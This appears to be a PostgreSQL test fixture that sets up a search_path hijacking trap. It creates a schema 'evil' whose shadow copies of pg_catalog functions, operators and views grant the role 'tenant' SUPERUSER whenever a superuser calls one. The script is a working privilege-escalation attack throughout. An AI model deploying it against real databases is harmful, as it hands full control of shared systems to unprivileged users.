-- A database owner's trap: for every function, operator and relation of pg_catalog that a statement of ours may name there
-- is one of the same name and the same arguments in a schema that stands first in search_path. Each gives its owner
-- the attribute SUPERUSER when a superuser runs it.
CREATE SCHEMA evil;
CREATE FUNCTION evil.deed(what text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) current_user) THEN
    RAISE LOG 'TRAPPED by %', what;
    EXECUTE 'ALTER ROLE tenant SUPERUSER';
  END IF;
EXCEPTION WHEN read_only_sql_transaction THEN NULL;
END $$;

DO $$
DECLARE f record; number int := 0;
BEGIN
  FOR f IN
    SELECT p.proname, pg_catalog.pg_get_function_identity_arguments(p.oid) AS arguments,
           pg_catalog.pg_get_function_result(p.oid) AS result
    FROM pg_catalog.pg_proc p
    WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f'
      AND p.prorettype NOT IN ('internal'::regtype, 'trigger'::regtype, 'event_trigger'::regtype,
                               'cstring'::regtype, 'language_handler'::regtype, 'index_am_handler'::regtype,
                               'table_am_handler'::regtype, 'fdw_handler'::regtype, 'tsm_handler'::regtype)
      AND pg_catalog.pg_get_function_arguments(p.oid) !~ 'internal|cstring|any|VARIADIC|OUT '
  LOOP
    BEGIN
      EXECUTE format(
        'CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE plpgsql AS '
        '$f$BEGIN PERFORM evil.deed(%L); RAISE EXCEPTION ''trapped by %%'', %L; END$f$',
        f.proname, f.arguments, f.result, f.proname, f.proname);
      number := number + 1;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  IF number < 1000 THEN RAISE EXCEPTION 'only % functions are traps', number; END IF;
END $$;

DO $$
DECLARE o record; number int := 0; body text;
BEGIN
  FOR o IN
    SELECT oprname, oprleft::regtype AS l, oprright::regtype AS r, oprresult::regtype AS result
    FROM pg_catalog.pg_operator
    WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprleft <> 0 AND oprresult <> 0
      AND oprleft::regtype::text !~ 'any' AND oprright::regtype::text !~ 'any'
  LOOP
    BEGIN
      number := number + 1;
      EXECUTE format(
        'CREATE FUNCTION evil.operator_%s(%s, %s) RETURNS %s LANGUAGE plpgsql AS '
        '$f$BEGIN PERFORM evil.deed(%L); RAISE EXCEPTION ''trapped by an operator''; END$f$',
        number, o.l, o.r, o.result, o.oprname);
      EXECUTE format('CREATE OPERATOR evil.%s (FUNCTION = evil.operator_%s, LEFTARG = %s, RIGHTARG = %s)',
                     o.oprname, number, o.l, o.r);
    EXCEPTION WHEN OTHERS THEN number := number - 1;
    END;
  END LOOP;
  IF number < 300 THEN RAISE EXCEPTION 'only % operators are traps', number; END IF;
END $$;

CREATE FUNCTION evil.look(what text) RETURNS boolean LANGUAGE plpgsql AS
  $$BEGIN PERFORM evil.deed(what); RAISE EXCEPTION 'trapped by a view'; END$$;
DO $$
DECLARE r record; number int := 0;
BEGIN
  FOR r IN
    SELECT relname FROM pg_catalog.pg_class
    WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v')
  LOOP
    BEGIN
      EXECUTE format('CREATE VIEW evil.%I AS SELECT * FROM pg_catalog.%I WHERE evil.look(%L)',
                     r.relname, r.relname, r.relname);
      number := number + 1;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  IF number < 100 THEN RAISE EXCEPTION 'only % relations are traps', number; END IF;
END $$;
